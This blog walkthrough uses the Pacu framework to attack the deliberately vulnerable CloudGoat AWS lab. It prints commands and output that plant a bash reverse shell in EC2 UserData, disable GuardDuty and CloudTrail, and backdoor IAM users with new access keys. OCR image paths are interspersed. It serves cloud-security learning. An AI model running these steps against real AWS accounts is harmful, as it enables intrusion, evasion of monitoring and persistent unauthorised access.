Playing with CloudGoat part 5: hacking AWS with Pacu

Few words about the Pacu

In the Pacu repository you can find the following description of the framework:

Launching Pacu

Once you start Pacu you’re asked for naming your session.

Let’s get hands dirty!

On the example of CloudGoat let’s see how helpful Pacu can be. The first thing after naming a session is to import keys and set region(s) for your session.

> run iam__enum_permissions
Running module iam__enum_permissions...
[iam__enum_permissions] Confirming permissions for users:
[iam__enum_permissions] bob...
[iam__enum_permissions] Confirmed Permissions for bob
[iam__enum_permissions] iam__enum_permissions completed.
[iam__enum_permissions] MODULE SUMMARY:Confirmed permissions for user: bob.
Confirmed permissions for 0 role(s).
> run ec2__enum
Running module ec2__enum...
[ec2__enum] Starting region us-west-2...
[ec2__enum] 2 instance(s) found.
[ec2__enum] 15 security groups(s) found.
[ec2__enum] FAILURE:
[ec2__enum] Access denied to DescribeAddresses.
[ec2__enum] Skipping elastic IP enumeration...
[ec2__enum] 0 elastic IP address(es) found.
[ec2__enum] FAILURE:
[ec2__enum] Access denied to DescribeCustomerGateways.
[ec2__enum] Skipping VPN customer gateway enumeration...
[ec2__enum] 0 VPN customer gateway(s) found.
[intentionally removed output]
[ec2__enum] MODULE SUMMARY:
2 total instance(s) found.
15 total security group(s) found.4 total subnets(s) found.
1 total VPC(s) found.
Pacu (Hack_the_CloudGoat:Bob) > services
Pacu (Hack_the_CloudGoat:Bob) > data EC2
"Instances": [
"AmiLaunchIndex": 0,
"Architecture": "x86_64",
"BlockDeviceMappings": [
"DeviceName": "/dev/xvda",
"Ebs": {
"AttachTime": "Tue, 26 Feb 2019 19:56:48",
"DeleteOnTermination": true,
"Status": "attached",
"VolumeId": "vol-065d9d7aad68e0177"


In the exploit section of the Pacu’s modules you will find pretty handy scripts. Do you remember in part 1 of this series what was the attack vector? The steps were the following:

  1. stop the instance
  2. update its UserData with reverse shell
  3. start a local listener to catch a reverse shell
  4. start the instance
  5. profit!
> run ec2__startup_shell_script --script --instance-ids i-041f94160e4f1e316@us-west-2
Running module ec2__startup_shell_script...
[ec2__startup_shell_script] Stopping i-041f94160e4f1e316
[ec2__startup_shell_script] Setting User Data for i-041f94160e4f1e316
[ec2__startup_shell_script] Starting i-041f94160e4f1e316
[ec2__startup_shell_script] ec2__startup_shell_script completed.
[ec2__startup_shell_script] MODULE SUMMARY:1 Instance(s) Modified
bash -i >& /dev/tcp/[my_ip]/[my_port] 0>&1

Staying under the hoodOk, you’ve already escalated privileges to administrator, then what? Quite smart move would be to hide your actions from any monitoring service (like CloudTrail, CloudWatch alarms or GuardDuty) which may alarm administrators and block your further lateral movements, wouldn’t it? Again, Pacu gives a helping hand here. Simply run one command to enumerate all those monitoring services: run detection__enum_services. Then to display data use data command:

> data CloudTrail
"Trails": [
"HasCustomEventSelectors": false,
"HomeRegion": "us-west-2",
"IncludeGlobalServiceEvents": true,
"IsMultiRegionTrail": false,
"LogFileValidationEnabled": true,
"Name": "cloudgoat_trail",
"Region": "us-west-2",
"S3BucketName": "16242183631729158332334886424132196042474324643131628372",
"S3KeyPrefix": "cloudtrail",
"TrailARN": "arn:aws:cloudtrail:us-west-2:XXXXXXXXXXXX:trail/cloudgoat_trail"
> run detection__disruption --trails cloudgoat_trail@us-west-2 --detectors 7ab496d17a483855b592b38e15689568@us-west-2
Running module detection__disruption...
[detection__disruption] Starting GuardDuty...
[detection__disruption] Starting region us-west-2...
[detection__disruption] GuardDuty detector ID: 7ab496d17a483855b592b38e15689568
Do you want to disable (dis), delete (del), or skip (s) it? (dis/del/s) dis
[detection__disruption] Successfully disabled detector 7ab496d17a483855b592b38e15689568!
[detection__disruption] GuardDuty finished.[detection__disruption] Starting CloudTrail...
[detection__disruption] Starting region us-west-2...
[detection__disruption] CloudTrail trail name: cloudgoat_trail
Do you want to disable (dis), delete (del), minimize (m), or skip (s) it? (dis/del/m/s) dis
[detection__disruption] Successfully disabled trail cloudgoat_trail!
[detection__disruption] CloudTrail finished.
[detection__disruption] No rules found. Skipping Config rules...
[detection__disruption] No recorders found. Skipping Config recorders...
[detection__disruption] No aggregators found. Skipping Config aggregators...
[detection__disruption] Noalarms found. Skipping CloudWatch...
[detection__disruption] No flow logs found. Skipping VPC...
[detection__disruption] detection__disruption completed.
[detection__disruption] MODULE SUMMARY:
1 detector(s) disabled.
0 detector(s) deleted.
1 trail(s) disabled.
0 trail(s) deleted.
0 trail(s) minimized.

Persist access

Once the “big brother” doesn’t see your actions, it’s time to set a backdoor access. If you remember the part 2 of this series, I created additional access keys to each user by running one of aws_pwn script. In Pacu, this task is even easier, because all you have to do is running the following module:

> run iam__backdoor_users_keys --usernames bob,joe,administrator
Running module iam__backdoor_users_keys...
[iam__backdoor_users_keys] Backdoor the following users?
[iam__backdoor_users_keys] bob
[iam__backdoor_users_keys] Access Key ID: XXX
[iam__backdoor_users_keys] Secret Key: XXX
[iam__backdoor_users_keys] joe
[iam__backdoor_users_keys] Access Key ID: XXX
[iam__backdoor_users_keys] Secret Key: XXX
[iam__backdoor_users_keys] administrator
[iam__backdoor_users_keys] Access Key ID: XXX[iam__backdoor_users_keys] Secret Key: XXX
[iam__backdoor_users_keys] iam__backdoor_users_keys completed.[iam__backdoor_users_keys] MODULE SUMMARY:
3 user key(s) successfully backdoored.


Although some features/modules doesn’t work perfectly, Pacu makes AWS hacking much easier and much quicker than using AWS CLI. All the handy scripts you used to launch are now put into one tool. I see a great potential in this tool and cheer this project on. Even though I showed you in this post just a few modules, I hope that I convinced you enough to install Pacu and give it a shot. Let me know how do you like it!



Get the Medium app

A button that says 'Download on the App Store', and if clicked it will lead you to the iOS App store
A button that says 'Get it on, Google Play', and if clicked it will lead you to the Google Play store
Pawel Rzepa

Pawel RzepaInterested in pentesting and cloud security |OSCP | eMAPT | AWS SAA | AWS CSS